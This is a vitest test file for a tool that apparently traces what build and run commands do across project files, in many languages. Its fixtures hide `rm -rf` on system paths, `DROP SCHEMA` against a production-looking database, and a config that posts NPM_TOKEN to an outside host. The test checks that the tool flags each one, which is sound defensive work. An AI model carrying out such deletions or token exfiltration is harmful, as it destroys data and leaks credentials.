import { expect, test } from 'vitest'
import { type Files, linesOf, type Twin } from '../../testing/project-lines.ts'

const gone = 'delete /opt/x'
const turbo = '{"tasks":{"test":{"dependsOn":["^build","prep"]},"prep":{}}}'
const packages: Files = { 'package.json': '{"workspaces":["apps/*"]}' }
const prod = 'postgres://a@db.prod.acme.io/a'

/** What is loaded or started because something names it: a project that lies there, and one that is built alike and does its own work. */
test.each<readonly [name: string, twin: Twin]>([
  [
    'a file that Perl requires from beside itself',
    {
      command: 'perl tools/a.pl',
      files: (told) => ({
        'tools/a.pl': 'use FindBin qw($Bin);\nrequire "$Bin/lib.pl";\nprepare();\n',
        'tools/lib.pl': `sub prepare {\n  system("rm -rf ${told}");\n}\n1;\n`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'what a function of R gives back',
    {
      command: 'Rscript a.R',
      files: (told) => ({
        'a.R': 'source("b.R")\nprepare()\n',
        'b.R': `place <- function() file.path("${told}", "x")\nprepare <- function() {\n  unlink(place(), recursive = TRUE)\n}\n`,
      }),
      lie: ['/opt', gone],
      honest: 'dist',
    },
  ],
  [
    'what a function of Julia gives back',
    {
      command: 'julia a.jl',
      files: (told) => ({
        'a.jl': 'include("b.jl")\nprepare()\n',
        'b.jl': `function place()\n    joinpath("${told}", "x")\nend\n\nfunction prepare()\n    rm(place(); recursive=true)\nend\n`,
      }),
      lie: ['/opt', gone],
      honest: 'dist',
    },
  ],
  [
    'a token that settings send off as they are loaded',
    {
      command: 'vite build',
      files: (told) => ({
        'vite.config.ts': "import { report } from './report'\nreport()\nexport default {}\n",
        'report.ts': `export function report() {\n  const token = process.env.${told}\n  fetch('https://stats.acme.io/e', { method: 'POST', body: JSON.stringify({ token }) })\n}\n`,
      }),
      lie: ['NPM_TOKEN', 'send:data https://stats.acme.io/e'],
      honest: 'THEME',
    },
  ],
  [
    'a task that turbo runs before another',
    {
      command: 'turbo run test',
      files: (told) => ({
        ...packages,
        'turbo.json': turbo,
        'apps/a/package.json': `{"name":"a","scripts":{"test":"node --test","prep":"rm -rf ${told}"}}`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a target that nx runs before another',
    {
      command: 'nx build a',
      files: (told) => ({
        ...packages,
        'nx.json': '{"targetDefaults":{"build":{"dependsOn":[{"target":"prep"}]}}}',
        'apps/a/package.json': `{"name":"a","scripts":{"build":"node --test","prep":"rm -rf ${told}"}}`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a compiler of a mix project',
    {
      command: 'mix compile',
      files: (told) => ({
        'mix.exs': 'defmodule A do\n  def project, do: [app: :a, compilers: [:assets] ++ Mix.compilers()]\nend\n',
        'lib/mix/tasks/compile.assets.ex': `defmodule Mix.Tasks.Compile.Assets do\n  def run(_) do\n    File.rm_rf!("${told}")\n  end\nend\n`,
      }),
      lie: ['/opt/x', gone],
      honest: '_build/old',
    },
  ],
  [
    'tests in a folder that deno is told',
    {
      command: 'deno test -A tests/',
      files: (told) => ({ 'tests/a_test.ts': `await Deno.remove('${told}', { recursive: true })\nDeno.test('a', () => {})\n` }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a class that the settings of Django name',
    {
      command: 'python manage.py test',
      files: (told) => ({
        'manage.py': 'import os\nos.environ.setdefault("DJANGO_SETTINGS_MODULE", "core.settings")\n',
        'core/settings.py': 'TEST_RUNNER = "core.runner.Clean"\n',
        'core/runner.py': `import shutil\nclass Clean(DiscoverRunner):\n  def setup_test_environment(self):\n    shutil.rmtree("${told}")\n`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a notebook, which runs in its own folder',
    {
      command: 'jupyter nbconvert --execute notes/a.ipynb',
      files: (told) => ({ 'notes/a.ipynb': JSON.stringify({ cells: [{ cell_type: 'code', source: [`!rm -rf ${told}\n`] }] }) }),
      lie: ['../../opt/x', gone],
      honest: '../opt/x',
    },
  ],
  [
    'a path from beside the file of a function that another calls',
    {
      command: 'node a.js',
      files: (told) => ({
        'a.js': "require('./tools/b').clean()\n",
        'tools/b.js': `const fs = require('fs'), path = require('path')\nexports.clean = () => fs.rmSync(path.resolve(__dirname, '${told}'), { recursive: true })\n`,
      }),
      lie: ['../../opt/x', gone],
      honest: '../opt/x',
    },
  ],
  [
    'a function that a manifest names to be started',
    {
      command: 'poe clean',
      files: (told) => ({
        'pyproject.toml': '[tool.poe.tasks]\nclean = { script = "tasks.clean:run" }\n',
        'tasks/clean.py': `import shutil\nPLACES = [name for name in ("${told}",)]\ndef run():\n  for place in PLACES:\n    shutil.rmtree(place)\n`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'what hatch runs before it makes an environment',
    {
      command: 'hatch run test',
      files: (told) => ({
        'pyproject.toml': `[tool.hatch.envs.default]\npre-install-commands = ["rm -rf ${told}"]\n[tool.hatch.envs.default.scripts]\ntest = "pytest"\n`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'statements of files that a program goes through',
    {
      command: 'node a.mjs',
      files: (told) => ({
        'a.mjs': `import { globSync } from 'glob'\nimport { readFileSync } from 'node:fs'\nimport Database from 'better-sqlite3'\nconst client = new Database(${told})\nfor (const file of globSync('db/*.sql')) client.exec(readFileSync(file, 'utf8'))\n`,
        'db/a.sql': 'CREATE TABLE b (c int);\nDROP TABLE a;\n',
      }),
      lie: ['process.env.DATABASE_FILE', 'database:write DROP TABLE a'],
      honest: "':memory:'",
    },
  ],
  [
    'a package of Go that empties what others live on',
    {
      command: 'go run .',
      files: (told) => ({
        'go.mod': 'module acme.io/a\n',
        'main.go': 'package main\n\nimport "acme.io/a/internal/store"\n\nfunc main() {\n\tstore.Prepare()\n}\n',
        'internal/store/store.go': `package store\n\nfunc Prepare() {\n\tdb, _ := sql.Open("postgres", "${told}")\n\tdb.Exec("DROP SCHEMA public CASCADE")\n}\n`,
      }),
      lie: [prod, 'database:write Exec("DROP SCHEMA'],
      honest: 'postgres://a@localhost/a_test',
    },
  ],
  [
    'a database by its DSN',
    {
      command: 'phpunit',
      files: (told) => ({
        'phpunit.xml': '<phpunit bootstrap="tests/bootstrap.php"></phpunit>',
        'tests/bootstrap.php': "<?php\nrequire __DIR__ . '/Store.php';\nStore::reset();\n",
        'tests/Store.php': `<?php\nclass Store\n{\n    public static function reset()\n    {\n        $pdo = new PDO('${told}');\n        $pdo->exec('DROP TABLE orders');\n    }\n}\n`,
      }),
      lie: ['mysql:host=db.acme.io;dbname=a', 'database:write'],
      honest: 'mysql:host=localhost;dbname=a_test',
    },
  ],
  [
    'a field that another file of Rust fills',
    {
      command: 'cargo run',
      files: (told) => ({
        'Cargo.toml': '[package]\nname = "a"\n',
        'src/main.rs': 'mod config;\nmod sweep;\nfn main() {\n    let config = config::Config::default();\n    sweep::run(&config);\n}\n',
        'src/config.rs': `pub struct Config {\n    pub place: PathBuf,\n}\nimpl Default for Config {\n    fn default() -> Self {\n        Config {\n            place: Path::new("${told}").join("x"),\n        }\n    }\n}\n`,
        'src/sweep.rs': 'pub fn run(config: &Config) {\n    fs::remove_dir_all(&config.place).ok();\n}\n',
      }),
      lie: ['/opt', gone],
      honest: 'target',
    },
  ],
  [
    'a list of steps in Go',
    {
      command: 'go run .',
      files: (told) => ({
        'go.mod': 'module a\n',
        'main.go': `package main\n\nimport "os/exec"\n\nvar steps = []step{\n\t{"vet", []string{"go", "vet", "./..."}},\n\t{"tidy", []string{"rm", "-rf", "${told}"}},\n}\n\nfunc main() {\n\tfor _, s := range steps {\n\t\texec.Command(s.argv[0], s.argv[1:]...).Run()\n\t}\n}\n`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a path from beside the file of a method that another calls in Ruby',
    {
      command: 'ruby script/a.rb',
      files: (told) => ({
        'script/a.rb': 'require_relative "../lib/a/paths"\nFileUtils.rm_rf(stale)\n',
        'lib/a/paths.rb': `def stale\n  File.join(__dir__, "${told}")\nend\n`,
      }),
      lie: ['../../../opt/x', gone],
      honest: '../../out/x',
    },
  ],
  [
    'a command in each application of an umbrella',
    {
      command: 'mix cmd sh clean.sh',
      files: (told) => ({
        'mix.exs': 'defmodule U do\n  def project, do: [apps_path: "apps"]\nend\n',
        'apps/a/mix.exs': 'defmodule A do\nend\n',
        'apps/a/clean.sh': `rm -rf ${told}\n`,
        'clean.sh': 'true\n',
      }),
      lie: ['/opt/x', gone],
      honest: '_build/x',
    },
  ],
  [
    'a program of Go that is told where to write',
    {
      command: 'go run ./gen -out a.go',
      files: (told) => ({
        'go.mod': 'module a\n',
        'gen/main.go': `package main\n\nimport "os"\n\nfunc main() {\n\tos.RemoveAll("${told}")\n}\n`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a method of a path that is given in Ruby',
    {
      command: 'rake build',
      files: (told) => ({
        Rakefile: 'require_relative "tasks/helpers"\ntask :build do\n  Helpers.reset(Helpers::OUT)\nend\n',
        'tasks/helpers.rb': `module Helpers\n  OUT = Pathname.new("${told}").join("x")\n  def self.reset(path)\n    path.rmtree if path.exist?\n  end\nend\n`,
      }),
      lie: ['/opt', gone],
      honest: 'out',
    },
  ],
  [
    'a path that goes through a pipe in Elixir',
    {
      command: 'mix test',
      files: (told) => ({
        'mix.exs': 'defmodule A.MixProject do\nend\n',
        'test/test_helper.exs': 'A.Support.Sandbox.reset()\nExUnit.start()\n',
        'test/support/sandbox.ex': `defmodule A.Support.Sandbox do\n  def reset do\n    "${told}" |> Path.join("x") |> File.rm_rf!()\n  end\nend\n`,
      }),
      lie: ['/opt', gone],
      honest: 'tmp',
    },
  ],
  [
    'a driver in the address of a database',
    {
      command: 'pytest tests/a',
      files: (told) => ({
        'tests/a/conftest.py': 'from app.database import engine\nfrom app.models import Base\nBase.metadata.drop_all(engine)\n',
        'app/database.py': `from sqlalchemy import create_engine\nengine = create_engine("postgresql+psycopg://a:b@${told}")\n`,
      }),
      lie: ['db.acme.io/a', 'database:write drop_all'],
      honest: 'localhost/a_test',
    },
  ],
  [
    'the pipeline of targets',
    {
      command: "Rscript -e 'targets::tar_make()'",
      files: (told) => ({ '_targets.R': `library(targets)\nstale <- "${told}"\nunlink(stale, recursive = TRUE)\nlist()\n` }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'what a manifest holds for its scripts',
    {
      command: 'npm run clean',
      files: (told) => ({ 'package.json': `{"config":{"out":"${told}"},"scripts":{"clean":"rm -rf $npm_package_config_out"}}` }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a setting with a default that it is given',
    {
      command: 'sh a.sh',
      files: (told) => ({ 'a.sh': `: "\${OUT:=${told}}"\nrm -rf "$OUT"\n` }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a rule of dune',
    {
      command: 'dune build',
      files: (told) => ({ 'bin/dune': `(rule (targets a.ml) (action (with-stdout-to a.ml (run bash -c "${told}"))))\n` }),
      lie: ['rm -rf /opt/x', gone],
      honest: 'echo let a = 1',
    },
  ],
])('%s', (_name, { command, files, lie: [told, line], honest }) => {
  expect(linesOf(command, files(told)).filter((one) => one.startsWith(line))).not.toEqual([])
  const own = linesOf(command, files(honest)).filter((one) => /^(?:unknown|send|database|delete [/~]|execute:arbitrary)/.test(one))
  expect(own).toEqual([])
})
